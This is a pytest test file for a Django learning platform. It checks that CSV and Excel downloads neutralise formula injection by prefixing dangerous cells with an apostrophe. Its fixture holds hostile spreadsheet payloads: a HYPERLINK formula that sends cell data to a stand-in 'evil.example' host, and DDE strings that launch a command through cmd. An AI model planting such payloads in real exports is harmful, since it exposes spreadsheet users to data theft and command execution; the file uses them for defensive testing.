"""Every file an organiser downloads is written by the one formula-safe writer (``learning.imports.export``):
a name typed as a formula comes back as text with a leading ', in every CSV and in the report's workbook."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

from courses.models import CoursePage
from learning.accounts.models import User
from learning.campaigns.targets import targets_template
from learning.localities.models import Commune, Province
from learning.stats.models import ReportSnapshot
from learning.stats.reports import report_request
from tests.stats.conftest import HA_TU

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&B2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def _no_formula(rows):
    """No cell of the file would be taken for a formula by a spreadsheet program."""
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]


@pytest.fixture
def hostile(world):
    """Learners, a commune and a course whose names are formulas (typed in a form, a roster or the admin)."""
    people = [world["an"], world["binh"], *User.objects.filter(full_name="Phạm Học Sinh")]
    for user, name in zip(people, NAMES, strict=False):
        User.objects.filter(pk=user.pk).update(full_name=name)
    User.objects.filter(pk=world["chi"].pk).update(full_name=NAMES[3])
    Commune.objects.filter(code=HA_TU).update(name=NAMES[1])
    CoursePage.objects.update(title=NAMES[2])
    return world


def test_people_csv_keeps_formula_names_as_text(client, hostile, province_organiser):
    client.force_login(province_organiser)
    rows = _csv(client.get(f"/organiser/stats/communes/{HA_TU}/people/", {"format": "csv"}))
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in NAMES[:3]} <= names
    assert not names & set(NAMES)
    _no_formula(rows)


@pytest.mark.parametrize(
    "path, table",
    [
        ("/organiser/stats/", ""),
        ("/organiser/stats/", "weeks"),
        (f"/organiser/stats/communes/{HA_TU}/", ""),
        (f"/organiser/stats/communes/{HA_TU}/", "groups"),
        (f"/organiser/stats/communes/{HA_TU}/", "weeks"),
    ],
)
def test_statistics_csv_downloads_are_formula_safe(client, hostile, province_organiser, path, table):
    client.force_login(province_organiser)
    rows = _csv(client.get(path, {"format": "csv", **({"table": table} if table else {})}))
    assert len(rows) > 1
    _no_formula(rows)
    cells = {cell for row in rows for cell in row}
    if path == "/organiser/stats/" and not table:
        assert "'" + NAMES[1] in cells  # the commune's name
    if path != "/organiser/stats/" and not table:
        assert "'" + NAMES[2] in cells  # the course's title


def test_report_workbook_text_cells_are_formula_safe(hostile, django_capture_on_commit_callbacks):
    today = timezone.localdate()
    with django_capture_on_commit_callbacks(execute=True):
        report_request(
            province=Province.objects.get(pk="22"), start=today - dt.timedelta(days=7), end=today, kind="on_demand"
        )
    snapshot = ReportSnapshot.objects.get()
    assert snapshot.status == "ready"
    with snapshot.xlsx.open("rb") as stored:
        book = openpyxl.load_workbook(io.BytesIO(stored.read()))
    values = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]
    assert not [cell for cell in values if cell.data_type == "f"]
    _no_formula([[cell.value for cell in values]])
    texts = {cell.value for cell in values}
    assert "'" + NAMES[1] in texts  # the commune's name in every table of communes


def test_targets_template_is_formula_safe(hostile):
    sheet = openpyxl.load_workbook(io.BytesIO(targets_template(campaign=hostile["campaign"]))).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert [HA_TU, "'" + NAMES[1]] in [row[:2] for row in rows]
    _no_formula(rows)
